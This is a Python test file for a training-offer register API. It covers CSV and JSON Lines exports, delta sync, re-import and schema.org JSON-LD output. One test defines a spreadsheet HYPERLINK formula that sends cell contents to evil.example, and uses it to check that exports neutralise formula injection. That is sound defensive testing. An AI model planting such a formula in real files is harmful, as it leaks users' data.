"""Exports of the published register (CSV, JSON Lines, delta sync) and schema.org JSON-LD."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

from shared.principal import ANONYMOUS

from ..helpers import Api


async def register(api: Api) -> dict[str, Any]:
    provider = await api.provider(name="Centre de Tétouan", website="https://centre.example.ma")
    offer = await api.offer(
        provider["id"], title_fr="Électricité", title_ar="الكهرباء", cost_mad=800
    )
    session = await api.session(offer["id"], schedule="Lun–Ven 9h–13h")
    await api.session(
        offer["id"], start_date="2027-09-01", end_date="2027-12-01", status="cancelled"
    )
    draft = await api.offer(provider["id"], title_fr="Brouillon", publish=False)
    await api.session(draft["id"])
    return {"provider": provider, "offer": offer, "session": session, "draft": draft}


async def export(api: Api, **params: Any) -> str:
    response = await api.client.get(
        "/v1/offers/export", params=params, headers=api.headers(ANONYMOUS)
    )
    assert response.status_code == 200, response.text
    return response.text


async def test_json_lines_export_holds_published_records_in_order(api: Api) -> None:
    records = await register(api)
    lines = [json.loads(line) for line in (await export(api)).splitlines()]
    assert [line["record"] for line in lines] == ["provider", "offer", "session", "session"]
    offer = lines[1]
    assert offer["external_id"] == records["offer"]["id"]
    assert offer["provider_external_id"] == records["provider"]["id"]
    assert offer["title_ar"] == "الكهرباء"
    assert offer["cost_mad"] == 800
    assert "id" not in offer
    assert "version" not in offer


async def test_csv_export_and_updated_since(api: Api) -> None:
    records = await register(api)
    response = await api.client.get(
        "/v1/offers/export", params={"format": "csv"}, headers=api.headers(ANONYMOUS)
    )
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [row["record"] for row in rows] == ["provider", "offer", "session", "session"]
    assert rows[1]["languages"] == "ar|fr"
    schedules = {row["schedule"] for row in rows if row["record"] == "session"}
    assert schedules == {"Lun–Ven 9h–13h", ""}
    since = records["session"]["updated_at"]
    later = [json.loads(line) for line in (await export(api, updated_since=since)).splitlines()]
    # The two sessions created from then on; the draft offer's session is not published.
    assert [line["record"] for line in later] == ["session", "session"]
    assert await export(api, updated_since="2099-01-01T00:00:00Z") == ""


async def test_an_export_imports_back_unchanged(api: Api) -> None:
    await register(api)
    for file_format, content_type in (("jsonl", "application/x-ndjson"), ("csv", "text/csv")):
        body = (await export(api, format=file_format)).encode()
        response = await api.request(
            "POST", "/v1/offers/import", content=body, headers={"Content-Type": content_type}
        )
        assert response.status_code == 200, response.text
        report = response.json()
        assert report["error_count"] == 0, report["errors"]
        assert report["providers"]["unchanged"] == 1
        assert report["offers"]["unchanged"] == 1
        assert report["sessions"]["unchanged"] == 2


async def test_schema_org_json_ld_of_one_offer(api: Api) -> None:
    records = await register(api)
    response = await api.client.get(
        f"/v1/offers/{records['offer']['id']}/jsonld", headers=api.headers(ANONYMOUS)
    )
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/ld+json"
    document = response.json()
    assert document["@context"] == "https://schema.org"
    assert document["@type"] == "EducationalOccupationalProgram"
    assert {"@value": "الكهرباء", "@language": "ar"} in document["name"]
    assert document["offers"] == {
        "@type": "Offer",
        "price": 800,
        "priceCurrency": "MAD",
        "category": "Paid",
    }
    assert document["timeToComplete"] == "PT300H"
    assert document["provider"]["@type"] == "EducationalOrganization"
    assert document["provider"]["address"]["addressRegion"] == "Tanger-Tétouan-Al Hoceïma"
    instances = document["hasCourse"]["hasCourseInstance"]
    assert [i["startDate"] for i in instances] == ["2027-02-01", "2027-09-01"]
    assert instances[1]["eventStatus"] == "https://schema.org/EventCancelled"
    assert instances[0]["remainingAttendeeCapacity"] == 20
    assert document["startDate"] == "2027-02-01"
    hidden = await api.client.get(
        f"/v1/offers/{records['draft']['id']}/jsonld", headers=api.headers(ANONYMOUS)
    )
    assert hidden.status_code == 404


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Details")'


async def test_csv_export_neutralises_formulas_and_imports_back_unchanged(api: Api) -> None:
    provider = await api.provider(name=FORMULA, phone="+212 539 99 88 77")
    offer = await api.offer(provider["id"], title_fr="-20 % sur la soudure", title_ar="@عرض")
    await api.session(offer["id"], schedule="+ soir : 18h–21h")
    text = await export(api, format="csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    provider_row, offer_row, session_row = rows
    # A spreadsheet shows these as text: no cell starts a formula.
    assert provider_row["name"] == "'" + FORMULA
    assert provider_row["phone"] == "'+212 539 99 88 77"
    assert offer_row["title_fr"] == "'-20 % sur la soudure"
    assert offer_row["title_ar"] == "'@عرض"
    assert session_row["schedule"] == "'+ soir : 18h–21h"
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    response = await api.request(
        "POST", "/v1/offers/import", content=text.encode(), headers={"Content-Type": "text/csv"}
    )
    assert response.status_code == 200, response.text
    report = response.json()
    assert report["error_count"] == 0, report["errors"]
    assert [report[kind]["unchanged"] for kind in ("providers", "offers", "sessions")] == [1, 1, 1]
    stored = (await api.request("GET", f"/v1/providers/{provider['id']}")).json()
    assert (stored["name"], stored["phone"]) == (FORMULA, "+212 539 99 88 77")
    stored_offer = (await api.request("GET", f"/v1/offers/{offer['id']}")).json()
    assert stored_offer["title_fr"] == "-20 % sur la soudure"
